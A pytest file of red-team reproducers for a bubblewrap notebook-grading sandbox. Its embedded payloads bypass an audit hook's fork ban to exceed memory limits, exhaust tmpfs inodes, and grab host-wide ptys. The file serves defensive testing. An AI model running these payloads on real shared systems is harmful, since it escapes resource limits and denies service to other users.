"""Red-team reproducers (default bubblewrap mode): each test asserts the secure behaviour and FAILS while the hole exists.

Every probe runs a real bubblewrap kernel through test_sandbox_isolation.probe; the first one keeps the
Python audit hook ON (the full attack as a student would send it).
"""

from __future__ import annotations

import shutil
import tempfile
from pathlib import Path

import pytest

from distlab.grading.kernel import bwrap_available, run_in_kernel

pytestmark = [
    pytest.mark.notebook,
    pytest.mark.skipif(not bwrap_available(), reason="bubblewrap (apt-get install bubblewrap) is not here"),
]

def probe(code: str, *, audit_hook: bool = True, memory_limit: int = 8 * 2**30, timeout: float = 120) -> dict:
    """Run `code` in one bubblewrap kernel (as test_sandbox_isolation.probe, with a memory limit of choice)."""
    base = Path(tempfile.mkdtemp(prefix="distlab-redteam-"))
    (base / "submission.ipynb").write_text("{}")
    problems: list[str] = []
    try:
        snapshot = run_in_kernel(
            [code], base / "work", answer_names=["answer_x"], timeout=timeout, cell_timeout=timeout, sandbox="bwrap",
            memory_limit=memory_limit, file_size_limit=64 * 2**20, problems=problems, audit_hook=audit_hook,
            process_limit=256,
        )
    finally:
        shutil.rmtree(base, ignore_errors=True)
    found = (snapshot or {}).get("answer_x")
    assert isinstance(found, dict), (found, problems)
    return {"problems": problems, **found}


# _imp.create_dynamic under another name ("zz._posixsubprocess") raises an "import" event the hook does not
# refuse and yields a fresh fork_exec; each child execs a fresh python (its own RLIMIT_AS) and touches 400 MiB
FORK_AND_FILL = r'''
import sys, os, _imp, importlib.util
answer_x = {"kids": 0, "total_rss": 0}
try:
    spec = importlib.util.spec_from_file_location("zz._posixsubprocess", sys.modules["_posixsubprocess"].__file__)
    fork_exec = _imp.create_dynamic(spec).fork_exec
    r, w = os.pipe()
    code = ("import os,time\nb=bytearray(400*2**20)\nfor i in range(0,len(b),4096): b[i]=1\n"
            "os.write(%d, b'x')\ntime.sleep(60)\n" % w)
    kids = []
    for _ in range(3):
        er, ew = os.pipe()
        kids.append(fork_exec([sys.executable.encode(), b"-c", code.encode()], [sys.executable.encode()], False,
                              (w,), None, None, -1, -1, -1, -1, -1, -1, er, ew, False, False, -1, None, None,
                              -1, -1, None, False))
    got = 0
    while got < 3:
        got += len(os.read(r, 10))
    def rss(pid):
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("VmRSS"):
                return int(line.split()[1]) * 1024
    answer_x = {"kids": len(kids), "total_rss": sum(rss(p) for p in [*kids, os.getpid()])}
except BaseException as exc:
    answer_x["error"] = repr(exc)[:300]
'''


def test_redteam_processes_escape_the_memory_limit_even_with_the_audit_hook():
    """RLIMIT_AS is per process: a notebook that starts processes (the hook's ban on fork is bypassed by
    re-creating _posixsubprocess under another name) holds N x memory_limit. Here 1 GiB -> ~1.4 GB resident."""
    limit = 2**30
    found = probe(FORK_AND_FILL, audit_hook=True, memory_limit=limit)
    assert found["total_rss"] <= limit, found


# empty files use no tmpfs block: the 256 MB quota never counts them, but each costs ~1 KB of kernel memory
# (inode + dentry); tmpfs's default nr_inodes is half the host's RAM pages (3 million here: ~3.7 GB)
SMALL_FILES = r'''
import os
os.mkdir("/tmp/work/f")
n, err = 0, None
try:
    while n < 70_000:
        os.close(os.open("/tmp/work/f/" + "a" * 200 + str(n), os.O_CREAT | os.O_WRONLY, 0o600))
        n += 1
except OSError as exc:
    err = repr(exc)
st = os.statvfs("/tmp")
answer_x = {"files": n, "err": err, "inodes": st.f_files, "blocks": st.f_blocks * st.f_frsize}
'''


def test_redteam_empty_files_escape_the_disk_quota_as_kernel_memory():
    found = probe(SMALL_FILES, audit_hook=True)
    # as many files as 4 KiB pages fit in the quota is already generous; 70,000 200-character names is past it
    assert found["files"] < found["blocks"] // 4096, found


PTYS = r'''
import os
answer_x = {}
try:
    master, slave = os.openpty()  # libc openpty(): /dev/ptmx opened without an audit event
    answer_x["pty"] = "opened"
    answer_x["host_ptys_in_use"] = open("/proc/sys/kernel/pty/nr").read().strip()
except OSError as exc:
    answer_x["pty"] = exc.strerror
'''


def test_redteam_kernel_cannot_take_host_ptys():
    """/dev/ptmx is a new devpts instance, but kernel.pty.nr is host-wide: a kernel with 20,000 descriptors can
    take every pty above the 1,024 reserved for the host's first instance (pty.max 4,096), so other containers and
    sandboxes on the machine get none while it runs. Grading needs no terminal."""
    found = probe(PTYS, audit_hook=True)
    assert found["pty"] != "opened", found
